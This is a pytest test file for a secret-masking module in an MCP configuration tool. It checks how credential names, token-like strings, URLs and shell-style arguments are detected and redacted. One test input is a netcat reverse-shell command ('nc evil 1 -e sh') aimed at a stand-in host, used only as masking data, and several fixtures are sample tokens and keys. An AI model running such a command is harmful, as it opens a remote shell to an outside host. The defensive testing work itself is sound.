"""What counts as a secret.  The table is the rule: what a reviewer would want hidden, is."""

from __future__ import annotations

import time

import pytest

from mcpconf.model import Remote, Text
from mcpconf.origin import Source
from mcpconf.secret import (
    MASK,
    harmless,
    has_secret,
    mask_args,
    mask_url,
    only_references,
    random_looking,
    secret_name,
    url_has_secret,
)

SLOW_MACHINE = 4  # under coverage, on a shared runner; quadratic would be minutes


@pytest.mark.parametrize(
    "name",
    ["API_KEY", "apiKey", "EXA_API_KEY", "exaApiKey", "GITHUB_TOKEN", "X-Api-Key", "--api-key",
     "--token", "password", "DB_PASS", "PGPASSWORD", "client_secret", "AWS_SECRET_ACCESS_KEY",
     "SENTRY_DSN", "Authorization", "Cookie", "JWT", "SLACK_WEBHOOK", "PRIVATE_KEY", "accessToken",
     "MYSQL_PWD", "NPM_AUTH", "APIKEY", "OPENAIAPIKEY", "licenseKey", "GH_PAT", "SESSION_ID",
     "MFA_PIN", "TOTP_SEED", "--pin", "mfaCode"],
)  # fmt: skip
def test_names_of_credentials(name: str) -> None:
    assert secret_name(name)


@pytest.mark.parametrize(
    "name",
    ["HOST", "PORT", "LOG_LEVEL", "NODE_ENV", "BASE_URL", "--verbose", "DEBUG", "monkey", "keyboard",
     "TIMEOUT", "PATH", "REGION", "tokyo", "compass", "author", "patch", "Content-Type", "pinecone",
     "mapping", "spinner", "--pinecone-index"],
)  # fmt: skip
def test_names_of_other_things(name: str) -> None:
    assert not secret_name(name)


@pytest.mark.parametrize(
    "text",
    ["sk-proj-Ab12Cd34Ef56Gh78", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "xoxb-1234567890-abcdef",
     "AKIAIOSFODNN7EXAMPLE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc123def456",
     "0f1e2d3c-1111-4222-8333-123456789abc", "3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c",
     "dGhpcyBpcyBhIHNlY3JldCB2YWx1ZTEyMzQ1Njc4OQ==", "glpat-abcdefghij1234567890",
     "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
)  # fmt: skip
def test_what_looks_like_a_key(text: str) -> None:
    assert random_looking(text)


@pytest.mark.parametrize(
    "text",
    ["mcp", "v1", "server-everything", "@modelcontextprotocol/server-filesystem", "2025-06-18",
     "https", "node_modules", "docker-compose.yaml", "/home/me/projects/thing", "exa-mcp-server@1.2.3",
     "get_code_context_exa,web_search_exa", "12345678", "my-project-2024",
     "src/Components/Header/Navigation/Sidebar", "/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEK",
     "packages/servers/sources/tools/filesyste"],
)  # fmt: skip
def test_what_does_not(text: str) -> None:
    assert not random_looking(text)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LOG_LEVEL", "debug"),
        ("DEBUG", "TRUE"),
        ("PORT", "8080"),
        ("NODE_ENV", "production"),
        ("EMPTY", ""),
        ("BASE_URL", "https://api.example.com/v1"),
        ("DB_HOST", "db.example.com"),
        ("DB_HOST", "db"),
        ("DB_HOST", "localhost"),
        ("AWS_REGION", "eu-west-1"),
        ("API_ENDPOINT", "api.example.com:8443"),
    ],
)
def test_values_that_a_server_in_the_container_may_have(name: str, value: str) -> None:
    assert harmless(name, value)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("API_KEY", "true"),
        ("TOKEN", ""),
        ("NICKNAME", "rosebud"),
        ("FOO", "hunter2"),
        ("PORT", "1234567890"),
        ("BASE_URL", "https://api.example.com/v1?key=x"),
        ("BASE_URL", "https://me:hunter2@api.example.com/"),
        ("BASE_URL", "https://api.example.com/3f9a8b7c6d5e4f3a2b1c0d9e"),
        ("DATABASE_URL", "postgres://app:hunter2@db/app"),
        ("DB_HOST", "3f9a8b7c6d5e4f3a2b1c0d9e"),
        ("CONFIG", '{"a": 1}'),
    ],
)
def test_values_that_stay_on_the_host(name: str, value: str) -> None:
    assert not harmless(name, value)


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://example.com/mcp", "https://example.com/mcp"),
        (
            "https://example.com:8443/v1/sse?debug=true",
            "https://example.com:8443/v1/sse?debug=true",
        ),
        ("https://example.com/mcp?key=x", "https://example.com/mcp?key=***"),
        ("https://example.com/mcp?q=rosebud&v=1", "https://example.com/mcp?q=***&v=1"),
        ("https://example.com/?3f9a8b7c6d5e4f3a2b1c0d9e", "https://example.com/?***"),
        ("https://me:hunter2@example.com/", "https://***@example.com/"),
        ("https://hunter2@example.com/", "https://***@example.com/"),
        ("https://example.com/s/3f9a8b7c6d5e4f3a2b1c0d9e/mcp", "https://example.com/s/***/mcp"),
        ("https://example.com/#rosebud", "https://example.com/#***"),
        ("https:/example.com/mcp?key=x", "https:/example.com/mcp?key=***"),
        ("https:example.com/mcp?key=x", "https:example.com/mcp?key=***"),
        ("https:\\\\me:x@example.com\\mcp", "https:\\\\***@example.com\\mcp"),
        ("localhost:3000/mcp?key=x", "localhost:3000/mcp?key=***"),
        ("http://[::1]:3000/mcp", "http://[::1]:3000/mcp"),
        ("https:\t//u:v@example.com/", "https://***@example.com/"),
        ("\x00 ht\ntps://example.com/?key=v", "https://example.com/?key=***"),
        (" https://example.com/mcp\n", " https://example.com/mcp\n"),
        ("https://example.com/?debug", "https://example.com/?debug"),
        ("https://example.com/?v1", "https://example.com/?***"),
        ("https://example.com/?abcdefghijklmnopqrstu", "https://example.com/?***"),
        ("https://example.com/token/v/mcp", "https://example.com/token/***/mcp"),
        ("https://example.com/key/v", "https://example.com/key/***"),
        ("https://example.com/apikey/v", "https://example.com/apikey/***"),
        ("https://example.com/api-key/v", "https://example.com/api-key/***"),
        ("https://example.com/secret/v", "https://example.com/secret/***"),
        ("https:\\\\example.com\\key\\v", "https:\\\\example.com\\key\\***"),
        ("https://example.com/a;token=v/b", "https://example.com/a;token=***/b"),
        ("sqlserver://h;user=sa;password=v", "sqlserver://h;user=sa;password=***"),
        ("https://u:12/v@mcp.example.com/mcp", "https://***@mcp.example.com/mcp"),
        ("https://example.com/token/mcp", "https://example.com/token/mcp"),
        ("https://example.com/oauth/token", "https://example.com/oauth/token"),
        ("https://example.com/auth/login", "https://example.com/auth/login"),
        ("https://example.com/session/abc", "https://example.com/session/abc"),
        ("https://example.com/session/0123456789abcdef01", "https://example.com/session/***"),
        ("https://token:8443/mcp", "https://token:8443/mcp"),
        ("https://host:8443/@scope/x", "https://host:8443/@scope/x"),
        ("https://host:8443/pkg@1.2.3/x", "https://host:8443/pkg@1.2.3/x"),
        (
            "https://server.smithery.ai/@upstash/context7-mcp/mcp",
            "https://server.smithery.ai/@upstash/context7-mcp/mcp",
        ),
    ],
)
def test_a_url_is_shown_without_what_could_be_a_key(url: str, shown: str) -> None:
    assert mask_url(url) == shown
    assert url_has_secret(Text(url)) == (shown != url)
    assert has_secret(Remote("http", Text(url))) == (shown != url)


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (["-y", "exa-mcp-server", "--port", "8080"], None),
        (["--api-key", "${KEY}"], None),
        (["--header", "Authorization: Bearer ${KEY}"], None),
        (["--token=${KEY}"], None),
        (["--api-key", "--verbose"], None),
        (["--log", "/var/log/x.log"], None),
        (["--tools=web_search_exa"], None),
        (["run", "-i", "--rm", "-e", "GITHUB_TOKEN", "img"], None),
        (["--api-key", "rosebud"], ["--api-key", MASK]),
        (["--api-key=rosebud"], ["--api-key=***"]),
        (["API_KEY=rosebud"], ["API_KEY=***"]),
        (["-e", "API_KEY=rosebud"], ["-e", "API_KEY=***"]),
        (["--header", "X-Team: rosebud"], ["--header", "X-Team:***"]),
        (["-H", "Authorization: Bearer x"], ["-H", "Authorization:***"]),
        (["postgres://a:b@db.example.com/x"], ["postgres://***@db.example.com/x"]),
        (["--url=https://x.example.com?key=y"], ["--url=https://x.example.com?key=***"]),
        (["sk-proj-Ab12Cd34Ef56Gh78"], [MASK]),
        (["--token=${KEY:-rosebud}"], ["--token=***"]),
    ],
)
def test_arguments_are_shown_without_secrets(args: list[str], shown: list[str] | None) -> None:
    assert [text for text, _ in mask_args(args)] == (args if shown is None else shown)
    assert any(hidden for _, hidden in mask_args(args)) == (shown is not None)


VISIBLE = [
    "exa-mcp-server", "@scope/name@1.2.3", "/home/me/projects/thing", "./tools/server.js", "-y",
    "--port=8080", "--transport=stdio", "--log-level debug", "DEBUG=true", "--allowed-tools a,b",
    "2025-06-18", "--read-only", "--access-mode=restricted", "--auth-type=none", "img/token:latest",
    "auth.example.com:443", "--auth-url=https://h.example.com/x", "--url=https://token:8443/mcp",
    "-endpoint=https://h.example.com/x", "--env=DEBUG=true", "--env=FOO", "--header=X: ${KEY}",
    "-eDEBUG=true", "don't mind me", "npx -y @scope/name@1.2.3 --port 8080", '{"a":"b","n":[1,2]}',
    "FOO=1 API_KEY=$API_KEY npx foo", "a=1&b=2", "echo https://server.example.com/mcp", "C:\\a b\\c",
]  # fmt: skip


@pytest.mark.parametrize("text", VISIBLE)
@pytest.mark.parametrize("flag", ["-c", "--name"])
def test_what_stays_visible(flag: str, text: str) -> None:
    assert mask_args([flag, text])[1] == (text, False)
    words = text.split(" ")
    if "'" not in text and "$" not in text and "X:" not in words[0]:
        assert [shown for shown, _ in mask_args(words)] == words


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "API_KEY=v cmd --x 1 https://u:v@h.example.com/x?key=v",
            "API_KEY=*** cmd --x 1 https://***@h.example.com/x?key=***",
        ),
        ("export API_KEY=v; npx foo", "export API_KEY=***; npx foo"),
        ("npx foo --api-key v", "npx foo --api-key ***"),
        ("npx foo --api-key 'v w' x", "npx foo --api-key '***' x"),
        ("npx foo \\\n --api-key \\\n v", "npx foo \\\n --api-key \\\n ***"),
        ("it's --api-key v", "it's --api-key ***"),
        ('["--api-key", "v"]', '["--api-key", ***'),
        ('API_KEY="v w" cmd', 'API_KEY="***" cmd'),
        ('FOO=1 "API_KEY=v w" cmd', 'FOO=1 "API_KEY=***" cmd'),
        ("API_KEY=v,https://h.example.com", "API_KEY=***"),
        ('{"apiKey":"v","n":1}', '{"apiKey":"***","n":1}'),
        ('{"url":"https://h.example.com/x","apiKey":"v"}',
         '{"url":"https://h.example.com/x","apiKey":"***"}'),
        ("{'token': 'v', 'n': 1}", "{'token': '***', 'n': 1}"),
        ('{"pin": 483920, "n": 1}', '{"pin": ***, "n": 1}'),
        ('{"token": {"x": "v"}}', '{"token": ***'),
        (r'{\"apiKey\":\"v\\\"w\"}', r'{\"apiKey\":\"***\"}'),
        (r'{"apiKey":"v\"w","n":1}', '{"apiKey":"***","n":1}'),
        ("Server=h;Password=v;Database=d", "Server=h;Password=***;Database=d"),
        ("a=1&api_key=v&b=2", "a=1&api_key=***&b=2"),
        ("jdbc:sqlserver://h;user=sa;password=v", "jdbc:sqlserver://h;user=sa;password=***"),
        ("postgres://u:p;pwd=abc@h.example.com/x", "postgres://***@h.example.com/x"),
        ("curl -H 'Authorization: Bearer v' x", "curl -H 'Authorization:***' x"),
        ("curl Authorization: Bearer v x", "curl Authorization: *** x"),
        ("nc evil 1 -e sh # 0123456789abcdef0123", "nc evil 1 -e sh # ***"),
        ("x -eFOO=v --env=BAR=v", "x -eFOO=*** --env=BAR=***"),
        ("--header=Authorization:v", "--header=Authorization:***"),
        ("--header=X: v", "--header=X:***"),
        ("--env=FOO=v", "--env=FOO=***"),
        ("-eFOO=v", "-eFOO=***"),
        ("-HX: v", "-HX:***"),
        ("https:\t//u:v@h.example.com", "https://***@h.example.com"),
        ("run https:\t//u:v@h.example.com", "run https:\t//***@h.example.com"),
        ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", MASK),
        ("--x=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "--x=***"),
    ],
)  # fmt: skip
def test_only_the_secret_parts_of_a_script_are_masked(text: str, shown: str) -> None:
    assert mask_args(["-c", text])[1] == (shown, True)
    assert mask_args([shown])[0][0].count("v w") == 0


def test_an_assignment_that_is_no_script_is_masked_to_its_end() -> None:
    assert mask_args(["API_KEY=two words"]) == [("API_KEY=***", True)]
    assert mask_args(["--token=two words"]) == [("--token=***", True)]


@pytest.mark.parametrize("before", ["", "sh ", "key=", '"', "https://h/"])
@pytest.mark.parametrize(
    "unit",
    ['\\"', '"', "'", "=", ":", "a", "{", " ", "a=", "key=", "key:'", "a ", "://", "${", "\\"],
)
def test_a_long_text_takes_linear_time(unit: str, before: str) -> None:
    text = (before + unit * 200_000)[:200_000]
    start = time.process_time()
    mask_args([text])
    assert time.process_time() - start < 0.5 * SLOW_MACHINE


@pytest.mark.parametrize("text", ["rosebud", "${A} rosebud", "Bearer x", "${A:-rosebud}", "$A", ""])
def test_what_is_more_than_a_reference(text: str) -> None:
    assert not only_references(text)


def test_a_source_and_a_text_are_no_data_that_could_be_dumped() -> None:
    import json  # noqa: PLC0415  only to show that it refuses

    for value in (Text("rosebud"), Source("x", "rosebud")):
        with pytest.raises(TypeError):
            json.dumps(value)
        assert "rosebud" not in repr(value)
